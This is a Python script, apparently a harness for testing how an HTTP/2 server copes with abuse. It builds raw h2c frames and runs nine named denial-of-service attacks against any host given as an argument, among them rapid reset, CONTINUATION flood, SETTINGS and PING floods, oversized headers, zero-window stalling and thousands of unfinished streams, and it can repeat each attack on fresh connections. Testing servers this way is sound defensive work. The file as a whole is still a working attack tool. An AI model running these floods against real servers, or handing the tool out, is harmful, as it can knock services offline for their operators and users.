#!/usr/bin/env python3
"""HTTP/2 abuse the way attackers do it, one attack per run, over cleartext h2c (prior knowledge).

usage: h2_abuse.py ATTACK HOST PORT PATH [HEADER:VALUE ...]
       H2_ABUSE_REPEAT=N runs the attack N times, each on a new connection (as an attacker who
       reconnects would), and adds "codes": the GOAWAY code each connection got.

Writes raw frames (hyperframe, hpack: Debian's python3-h2 brings both) so that it can send what a
well-behaved library refuses to. Reads until the server sends GOAWAY and closes, or 20 s pass, and
prints one JSON object:
  {"attack": ..., "sent": frames sent, "goaway": {"code": n, "name": ..., "lastStream": n, "debug": ...}
   or null, "closed": bool, "seconds": s, "resets": RST_STREAM frames received, "headers": HEADERS received}

Attacks:
  rapid-reset         HEADERS then RST_STREAM(CANCEL), 10,000 times, as fast as possible
  continuation-flood  HEADERS without END_HEADERS, then 10,000 one-byte CONTINUATION frames
  settings-flood      10,000 SETTINGS frames
  ping-flood          10,000 PING frames
  big-header          one request whose header block is 64 KiB (over the advertised 16 KiB list size)
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE 0, then 500 requests (give a PATH whose answers have
                      a body), and never a WINDOW_UPDATE
  many-streams        10,000 streams opened at once (HEADERS without END_STREAM), never finished
  unfinished-streams  100 streams opened (HEADERS without END_STREAM) and never finished; reads until
                      all 100 are reset or 20 s pass (the connection itself may stay)
  content-length-lies three requests whose body does not match their content-length (stream 1 has
                      less, stream 3 more, stream 5 a content-length that is not a number), then a
                      well-formed one (stream 7); reads until three resets and an answer came or 20 s
                      pass, and adds "resetCodes" and "statuses" by stream (the connection should stay)
"""
import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
         5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
         10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


class Connection:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=20)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.sent = 0
        self.goaway = None
        self.closed = False
        self.resets = 0
        self.headers = 0
        self.out = bytearray()
        self.server_settings = False
        self.decoder = hpack.Decoder()
        self.reset_codes = {}
        self.statuses = {}

    def queue(self, frame):
        self.out += frame.serialize()
        self.sent += 1
        if len(self.out) > 65536:
            self.flush()

    def flush(self):
        if self.out and not self.closed:
            out, self.out = self.out, bytearray()
            try:
                self.sock.sendall(out)
            except OSError:
                # The server is gone; what it said before (its GOAWAY) may still wait to be read.
                self.drain_while_sending()
                self.closed = True

    def pump(self, timeout):
        """Reads what has arrived (waiting at most `timeout`); False once the connection is closed."""
        self.sock.settimeout(timeout)
        try:
            chunk = self.sock.recv(1 << 20)
        except socket.timeout:
            return True
        except OSError:
            self.closed = True
            return False
        if not chunk:
            self.closed = True
            return False
        self.buffer += chunk
        self.pump_buffer()
        self.flush()
        return True

    def drain_while_sending(self):
        """Reads without waiting, so that the server never blocks on a full socket."""
        self.sock.setblocking(False)
        try:
            while True:
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    self.closed = True
                    break
                self.buffer += chunk
        except (BlockingIOError, socket.timeout):
            pass
        except OSError:
            self.closed = True
        self.sock.setblocking(True)
        if self.buffer:
            # Parse what came (GOAWAY, resets) without waiting for more.
            self.pump_buffer()

    def pump_buffer(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                break
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = {"code": frame.error_code, "name": CODES.get(frame.error_code, "?"),
                               "lastStream": frame.last_stream_id,
                               "debug": frame.additional_data.decode(errors="replace")}
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
                self.reset_codes[frame.stream_id] = frame.error_code
            elif isinstance(frame, HeadersFrame):
                self.headers += 1
                # Every block is decoded, in order, to keep the decoder's table in step with the server's.
                for name, value in self.decoder.decode(bytes(frame.data)):
                    if name in (":status", b":status"):
                        self.statuses[frame.stream_id] = int(value)
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.server_settings = True
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.out += ack.serialize()


def request_block(encoder, authority, path, extra, pad=0):
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", authority), (":path", path)] + extra
    if pad:
        headers.append(("x-padding", "a" * pad))
    return encoder.encode(headers)


def main():
    attack, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    extra = []
    for item in sys.argv[5:]:
        name, _, value = item.partition(":")
        extra.append((name.strip().lower(), value.strip()))
    import os
    results = [run_once(attack, host, port, path, extra) for _ in range(int(os.environ.get("H2_ABUSE_REPEAT", "1")))]
    result = results[0]
    result["codes"] = [r["goaway"]["code"] if r["goaway"] else None for r in results]
    result["allClosed"] = all(r["closed"] for r in results)
    print(json.dumps(result))
    return 0


def run_once(attack, host, port, path, extra):
    authority = f"{host}:{port}"
    c = Connection(host, port)
    encoder = hpack.Encoder()
    settings = SettingsFrame(0)
    if attack == "zero-window":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
    c.sock.sendall(PREFACE)
    c.queue(settings)
    c.flush()
    # As a determined attacker would: take the server's SETTINGS (and acknowledge them) first.
    until = time.monotonic() + 10
    while not c.server_settings and not c.closed and time.monotonic() < until:
        c.pump(0.2)
    started = time.monotonic()

    if attack == "rapid-reset":
        stream = 1
        for _ in range(10000):
            h = HeadersFrame(stream)
            h.data = request_block(encoder, authority, path, extra)
            h.flags.add("END_HEADERS")
            c.queue(h)
            c.queue(RstStreamFrame(stream, error_code=8))
            stream += 2
            if stream % 200 == 1:
                c.flush()
                c.drain_while_sending()
                if c.closed or c.goaway:
                    break
    elif attack == "continuation-flood":
        h = HeadersFrame(1)
        h.data = request_block(encoder, authority, path, extra)
        c.queue(h)  # no END_HEADERS
        for _ in range(10000):
            cont = ContinuationFrame(1)
            cont.data = b"\x00"
            c.queue(cont)
            if c.sent % 500 == 0:
                c.flush()
                c.drain_while_sending()
                if c.closed or c.goaway:
                    break
    elif attack in ("settings-flood", "ping-flood"):
        for i in range(10000):
            c.queue(SettingsFrame(0) if attack == "settings-flood" else PingFrame(0, opaque_data=i.to_bytes(8, "big")))
            if i % 500 == 0:
                c.flush()
                c.drain_while_sending()
                if c.closed or c.goaway:
                    break
    elif attack == "big-header":
        block = request_block(encoder, authority, path, extra, pad=64 * 1024)
        first = HeadersFrame(1)
        first.data = block[:16384]
        c.queue(first)
        rest = block[16384:]
        while rest:
            cont = ContinuationFrame(1)
            cont.data = rest[:16384]
            rest = rest[16384:]
            if not rest:
                cont.flags.add("END_HEADERS")
            c.queue(cont)
    elif attack == "zero-window":
        stream = 1
        for i in range(500):
            h = HeadersFrame(stream)
            h.data = request_block(encoder, authority, path, extra)
            h.flags.add("END_HEADERS")
            c.queue(h)
            d = DataFrame(stream)
            d.data = b'{"aps":{"alert":"x"}}'
            d.flags.add("END_STREAM")
            c.queue(d)
            stream += 2
            if i % 100 == 0:
                c.flush()
                c.drain_while_sending()
                if c.closed or c.goaway:
                    break
    elif attack == "many-streams":
        stream = 1
        for i in range(10000):
            h = HeadersFrame(stream)
            h.data = request_block(encoder, authority, path, extra)
            h.flags.add("END_HEADERS")
            c.queue(h)
            stream += 2
            if i % 500 == 0:
                c.flush()
                c.drain_while_sending()
                if c.closed or c.goaway:
                    break
    elif attack == "unfinished-streams":
        stream = 1
        for i in range(100):
            h = HeadersFrame(stream)
            h.data = request_block(encoder, authority, path, extra)
            h.flags.add("END_HEADERS")
            c.queue(h)
            stream += 2
        c.flush()
        deadline = time.monotonic() + 20
        while c.resets < 100 and not c.closed and time.monotonic() < deadline:
            c.pump(0.2)
    elif attack == "content-length-lies":
        body = b'{"aps":{"alert":"x"}}'
        for stream, length, data in ((1, "100", body), (3, "2", body), (5, "ten", b""), (7, str(len(body)), body)):
            h = HeadersFrame(stream)
            h.data = request_block(encoder, authority, path, extra + [("content-length", length)])
            h.flags.add("END_HEADERS")
            if not data:
                h.flags.add("END_STREAM")
            c.queue(h)
            if data:
                d = DataFrame(stream)
                d.data = data
                d.flags.add("END_STREAM")
                c.queue(d)
        c.flush()
        deadline = time.monotonic() + 20
        while (c.resets < 3 or 7 not in c.statuses) and not c.closed and time.monotonic() < deadline:
            c.pump(0.2)
    else:
        raise SystemExit(f"unknown attack {attack}")
    c.flush()
    deadline = time.monotonic() + 20
    while attack not in ("unfinished-streams", "content-length-lies") and not c.closed and time.monotonic() < deadline:
        c.pump(0.5)
        if c.goaway and attack not in ("zero-window",):
            # Give the server a moment to close after its GOAWAY.
            end = time.monotonic() + 2
            while not c.closed and time.monotonic() < end:
                c.pump(0.2)
            break
    c.sock.close()
    return {"attack": attack, "sent": c.sent, "goaway": c.goaway, "closed": c.closed,
            "seconds": round(time.monotonic() - started, 3), "resets": c.resets, "headers": c.headers,
            "resetCodes": {str(k): v for k, v in c.reset_codes.items()},
            "statuses": {str(k): v for k, v in c.statuses.items()}}


if __name__ == "__main__":
    sys.exit(main())
